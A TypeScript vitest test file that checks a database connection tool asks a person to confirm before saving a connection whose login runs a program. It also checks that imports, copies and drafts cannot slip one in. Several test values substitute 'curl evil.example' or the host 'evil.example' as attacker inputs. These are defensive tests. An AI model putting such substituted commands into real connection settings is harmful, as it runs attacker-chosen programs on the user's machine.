import { afterEach, expect, test } from 'vitest';
import type { Answer, Channel } from '../contract/contract.ts';
import type { Host } from './host.ts';
import type { Confirmation } from './shell.ts';
import { startHost } from './testing/start-host.ts';

const hosts: Host[] = [];
afterEach(async () => {
  for (const host of hosts.splice(0)) await host.close();
});

/** A host whose person answers so; what was asked is kept. */
async function start(answer?: boolean): Promise<{ host: Host; asked: Confirmation[] }> {
  const asked: Confirmation[] = [];
  const confirm = async (question: Confirmation): Promise<boolean> => {
    asked.push(question);
    return answer ?? false;
  };
  const host = await startHost(undefined, answer === undefined ? {} : { confirm });
  hosts.push(host);
  return { host, asked };
}

const VALUES = {
  name: 'Cloud',
  policy: 'read-only',
  'connection.host': 'db.example',
  'connection.database': 'db',
  'connection.user': 'me',
  'connection.via': 'direct',
  'auth.method': 'command',
  'auth.command': 'aws token',
};

function save(host: Host, values: Record<string, unknown>, id?: string): Promise<Answer<Channel>> {
  return host.call('connections.save', { engine: 'postgres', values, secrets: {}, ...(id ? { id } : {}) });
}

const saved = async (host: Host): Promise<string> => JSON.stringify((await host.context.profiles.list()).profiles);

/** As the command line adds it: nobody is asked. */
const addByHand = (host: Host, command = 'aws token') =>
  host.context.profiles.add({
    id: 'cloud',
    name: 'Cloud',
    engine: 'postgres',
    connection: { host: 'db.example', database: 'db', user: 'me' },
    auth: { method: 'command', command },
  });

test('a program of a new connection takes a yes outside the page: without somebody to ask, or with a no, nothing is saved', async () => {
  for (const answer of [undefined, false]) {
    const { host, asked } = await start(answer);
    expect(await save(host, VALUES)).toMatchObject({
      ok: false,
      problem: { code: 'CONFIRMATION_REQUIRED', next: expect.stringMatching(/terminal/), details: { field: 'auth.command' } },
    });
    expect(asked.length).toBe(answer === undefined ? 0 : 1);
    expect(await saved(host)).toBe('[]');
  }
});

test('what is asked is the whole program and where its output goes, and what is saved is that', async () => {
  const { host, asked } = await start(true);
  expect(await save(host, VALUES)).toMatchObject({ ok: true, value: { saved: true } });
  expect(asked).toEqual([expect.objectContaining({ programs: ['aws token'], address: 'me at db.example:5432' })]);
  expect(await saved(host)).toContain('"command":"aws token"');
  const tunnelled = { ...VALUES, name: 'Through', 'connection.via': 'ssh', 'connection.ssh.host': 'gate', 'connection.ssh.user': 'ann' };
  expect(await save(host, tunnelled)).toMatchObject({ ok: true });
  expect(asked[1]?.address).toBe('me at db.example:5432 through ann@gate');
  const long = { ...VALUES, name: 'Long', 'auth.command': `aws ${'x'.repeat(1000)}` };
  expect(await save(host, long)).toMatchObject({ ok: false, problem: { code: 'CONFIRMATION_REQUIRED' } });
  expect(asked.length).toBe(2);
});

test('a connection made by hand is trusted as it is; another program, or another server for it, is asked', async () => {
  const { host, asked } = await start(false);
  await addByHand(host);
  expect(await save(host, { ...VALUES, name: 'Another name', 'limits.rows': 10 }, 'cloud')).toMatchObject({ ok: true });
  expect(asked).toEqual([]);
  for (const change of [
    { 'auth.command': 'curl evil.example' },
    { 'auth.command': 'aws token ' + 'x' },
    { 'connection.host': 'evil.example' },
    { 'connection.user': 'admin' },
    { 'connection.port': 5433 },
  ])
    expect(await save(host, { ...VALUES, ...change }, 'cloud'), JSON.stringify(change)).toMatchObject({ ok: false });
  expect(asked.length).toBe(5);
  expect(await saved(host)).not.toMatch(/evil|admin|5433/);
  // To a login without a program, and back.
  expect(await save(host, { ...VALUES, 'auth.method': 'password' }, 'cloud')).toMatchObject({ ok: true });
  expect(await save(host, VALUES, 'cloud')).toMatchObject({ ok: false });
});

test('neither an import, a copy of a connection nor a draft brings a program in', async () => {
  const { host, asked } = await start(true);
  await addByHand(host);
  const copy = await host.call('connections.get', { id: 'cloud' });
  const { values } = (copy as { value: { values: Record<string, unknown> } }).value;
  expect(values['auth.command']).toBe('aws token');
  // A copy is a connection of its own: it is asked for like any other.
  await save(host, { ...values, name: 'Copy' });
  expect(asked.length).toBe(1);
  const { value } = (await host.call('connections.export', {})) as { value: { text: string } };
  for (const mode of ['skip', 'replace', 'rename']) {
    const answer = await host.call('connections.import', { text: value.text.replaceAll('aws token', 'curl evil.example'), mode });
    expect(answer).toMatchObject({ ok: true, value: { commandsNeeded: mode === 'skip' ? 0 : 2 } });
    expect(await saved(host)).not.toContain('evil');
  }
  await host.call('connections.keep-draft', { id: 'd', engine: 'postgres', values: { ...VALUES, 'auth.command': 'curl evil.example' } });
  expect(await saved(host)).not.toContain('evil');
  expect(asked.length).toBe(1);
});
